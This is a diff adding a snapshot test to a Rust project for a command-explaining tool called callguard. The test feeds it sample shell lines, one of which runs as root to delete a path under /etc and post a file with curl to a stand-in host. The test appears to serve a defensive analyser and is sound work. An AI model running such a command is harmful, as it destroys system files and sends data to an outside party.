@@ -241,6 +241,24 @@ fn schemas_are_those_that_the_reference_holds() {
 }
 
 #[test]
+fn explain_a_command_line() {
+    let explain = |line: &str| callguard(&["explain", "--command", line]);
+    insta::assert_snapshot!("explain_command", explain("cd src && grep -rn 'fn main' . | head -3 > ../found.txt"));
+    insta::assert_snapshot!(
+        "explain_command_wrapped",
+        explain("sudo -u root sh -c 'rm -rf /etc/x; curl -d @a https://a.example'")
+    );
+    insta::assert_snapshot!("explain_command_unclear", explain("python3 -c \"$CODE\"; ./deploy --to prod"));
+    insta::assert_snapshot!("explain_command_nothing", explain(""));
+    insta::assert_snapshot!(
+        "explain_command_json",
+        callguard(&["explain", "--json", "--cwd", "/srv", "--command", "tar xzf a.tgz -C out"])
+    );
+    assert_eq!(run(&["explain"], b"").status.code(), Some(2));
+    assert_eq!(run(&["explain", "CG0201", "--command", "ls"], b"").status.code(), Some(2));
+}
+
+#[test]
 fn json_explains_and_says_how_to_ask() {
     let json = |args: &[&str]| -> serde_json::Value { serde_json::from_slice(&run(args, b"").stdout).unwrap() };
     let explained =
